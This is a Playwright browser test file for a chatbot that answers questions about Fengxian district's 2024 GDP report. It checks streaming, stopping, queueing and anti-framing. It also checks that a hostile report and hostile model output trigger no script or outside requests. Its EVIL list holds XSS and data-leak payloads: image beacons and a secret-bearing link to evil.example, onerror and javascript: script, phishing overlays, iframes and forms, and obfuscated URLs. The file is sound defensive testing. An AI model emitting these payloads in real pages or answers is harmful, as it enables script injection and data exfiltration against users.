"""With a language model in a browser: the answer streams, stops, and is as harmless as its report.

The report and the model's words carry what S-13 to S-23 of the threat list try.
"""

import threading

import pytest
from playwright.sync_api import expect

from rag.bot import Bot
from tests.browser.conftest import visiting
from tests.endpoint import begin, chunk, drips, falls_silent, says, send, serve
from tests.serving import Site
from tests.timing import within

pytestmark = pytest.mark.browser
EVIL = (
    "![a](http://evil.example/1.png)", "![b][r]", "[r]: http://evil.example/2.png",
    '<img src="http://evil.example/3.png" srcset="http://evil.example/4.png 2x" onerror="__xss=1">',
    '<svg onload="__xss=1"><image href="http://evil.example/5.png"/></svg>',
    '<video poster="http://evil.example/6.png"></video>',
    '<div style="position:fixed;inset:0;background:url(http://evil.example/7.png)">登录</div>',
    '<link rel="stylesheet" href="http://evil.example/8.css">',
    '<style>@import "http://evil.example/9.css";</style>', "<script>__xss=1</script>",
    "[点这里](javascript:__xss=1)", "[查看](http://evil.example/10?d=secret)",
    "http://1.2.3.4@evil.example/11", "http://2130706433/12", "http://[::1]:1/13",
    '<iframe src="http://evil.example/14"></iframe>',
    '<form action="http://evil.example/15"><input name="p"></form>',
    "$$\\href{http://evil.example/16}{x}$$", "```mermaid\ngraph TD; A-->B\n```",
)  # fmt: skip
REPORT = (
    "# 奉贤区2025年政府工作报告 <img src=http://evil.example/0.png>\n\n"
    f"2024年，奉贤区地区生产总值1500.5亿元，增长4.2%。{''.join(EVIL[:4])}\n\n" + "\n\n".join(EVIL)
)
QUESTION = "奉贤区2024年地区生产总值是多少？"


@pytest.fixture(scope="module")
def endpoint():
    with serve(says("奉贤区地区生产总值为1500.5亿元[1]。")) as served:
        yield served


@pytest.fixture(scope="module")
def modelled(endpoint, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "奉贤 ![x](http:evil).md"
    file.write_text(REPORT, encoding="utf-8")
    with Bot.open(folder / "index") as bot:
        assert not bot.ingest(file).failed
    llm = {"provider": "openai-like", "base_url": endpoint.url, "model": "served-1"}
    with Site(folder / "index", llm=llm, server={"concurrency": 1, "queue": 1}) as site:
        yield site


@pytest.fixture
def visit(browser, modelled):
    with visiting(browser, modelled) as opened:
        yield opened


@pytest.fixture(scope="module")
def opened(browser, modelled):
    with visiting(browser, modelled) as visit:
        yield visit().open()


@pytest.fixture
def page(opened):
    return opened.renew()


def harmless(page):
    """Nothing ran, nothing covers the page, and no link leads away."""
    assert page.page.evaluate("typeof window.__xss") == "undefined"
    leading = "a => a.map(a => a.href).filter(h => !h.startsWith(location.origin))"
    assert page.page.eval_on_selector_all("a[href]", leading) == []
    for selector in ("iframe", "form", "video", "#chat img", "#evidence img", "[onerror]"):
        assert page.page.locator(selector).count() == 0
    assert page.foreign == []


def test_an_answer_streams_and_names_its_model(page, endpoint):
    words, seen = "奉贤区地区生产总值为1500.5亿元[1]。", threading.Event()

    def halves(handler, body):
        begin(handler)
        send(handler, chunk(words[:12]))
        assert seen.wait(40)
        send(handler, chunk(words[12:]) + chunk("", "stop") + "data: [DONE]\n\n")
        handler.close_connection = True

    endpoint.replies[:] = [halves]
    page.page.fill("#question textarea", QUESTION)
    page.page.press("#question textarea", "Enter")
    page.page.wait_for_selector("#chat .partial")
    partial = page.page.locator("#chat .partial").inner_text()
    seen.set()
    page.page.wait_for_selector("#chat .answer[id] a.cite")
    answer = page.page.locator("#chat .answer[id]").inner_text()
    assert len(partial) < len(words)
    assert "由 served-1 撰写" in answer
    assert "AI 生成" in answer


def test_stop_ends_the_request_within_two_seconds(page, endpoint):
    endpoint.replies[:] = [drips("正在写第一句")]
    endpoint.hung_up.clear()
    page.page.fill("#question textarea", "奉贤区2024年地区生产总值增长多少？")
    page.page.press("#question textarea", "Enter")
    expect(page.page.locator("#chat .partial")).to_contain_text("正在写")
    with within(2):
        page.page.get_by_role("button", name="停止").click()
        assert endpoint.hung_up.wait(60)
    expect(page.page.locator("#chat .answer")).to_have_text("已停止。")
    expect(page.page.get_by_role("button", name="提问", exact=True)).to_be_visible()


def test_a_hostile_report_and_model_reach_no_other_host(visit, endpoint):
    endpoint.replies[:] = [says("奉贤区地区生产总值为1500.5亿元[1]。\n\n" + "\n\n".join(EVIL))]
    page = visit().open()
    assert "1500.5" in page.ask("请问奉贤区2024年地区生产总值是多少？")
    harmless(page)
    assert "1500.5亿元" in page.cite()
    page.page.locator("#chat summary").click()
    harmless(page)
    for tab, shown in (("指标", "#figures td"), ("资料库", "#reports td")):
        page.tab(tab)
        page.page.wait_for_selector(shown)
        harmless(page)
    page.page.goto(page.page.locator("#reports a").first.evaluate("a => a.href"))
    assert "evil.example/14" in page.page.locator("main").inner_text()
    harmless(page)


def test_a_model_that_falls_silent_leaves_a_usable_page(page, endpoint):
    endpoint.replies[:] = [falls_silent("奉贤区")]
    page.page.fill("#question textarea", "奉贤区2024年的GDP是多少？")
    page.page.press("#question textarea", "Enter")
    page.page.wait_for_selector("#chat .partial")
    page.page.get_by_role("button", name="停止").click()
    expect(page.page.locator("#chat .answer")).to_have_text("已停止。")
    endpoint.replies[:] = [says("奉贤区地区生产总值为1500.5亿元[1]。")]
    box = page.page.locator("#question textarea")
    box.fill("奉贤区2024年GDP有多少？")
    while box.input_value():  # the page is still taking leave of the question that was stopped
        box.press("Enter")
        page.page.wait_for_timeout(200)
    expect(page.page.locator("#chat .answer[id]")).to_contain_text("1500.5")


def test_another_site_cannot_frame_the_page(browser, modelled):
    page = browser.new_page()
    with page.expect_response(f"{modelled.url}/zh/"):
        page.set_content(f'<iframe src="{modelled.url}/zh/"></iframe>')
    page.frames[-1].wait_for_load_state()
    assert not any(frame.url.startswith(modelled.url) for frame in page.frames)
    page.close()


def test_one_queue_for_both_languages_tells_its_length_and_when_it_is_full(page, visit, endpoint):
    """One is answered, one waits, and one of each language is too many."""
    endpoint.replies[:] = [drips("正在写")]
    question = "奉贤区2024年地区生产总值的增速是多少？"  # not asked before: answers are remembered
    answered = page
    waiting, third, fourth = (visit().open(f"/{path}/") for path in ("en", "zh", "en"))

    def ask(page):
        page.page.fill("#question textarea", question)
        page.page.press("#question textarea", "Enter")

    ask(answered)
    answered.page.wait_for_selector("#chat .partial")
    ask(waiting)
    running = waiting.page.locator("#chat .running")
    expect(running).to_have_text("Waiting in line, questions before yours: 1…")
    for page, said in ((third, "排队的问题太多"), (fourth, "Too many questions are waiting")):
        ask(page)
        expect(page.page.locator(".toast-body")).to_contain_text(said)
        expect(page.page.locator("#question textarea")).to_have_value(question)
        expect(page.page.locator("#chat .answer")).to_have_count(0)
    answered.page.locator("#stop").click()
    waiting.page.wait_for_selector("#chat .partial")
    expect(waiting.page.locator("#question textarea")).to_have_value("")
    third.page.press("#question textarea", "Enter")
    expect(third.page.locator("#chat .running")).to_have_text("排队中，前面还有 1 个问题…")
    third.page.locator("#stop").click()
    expect(third.page.locator("#chat .answer")).to_have_text("已停止。")
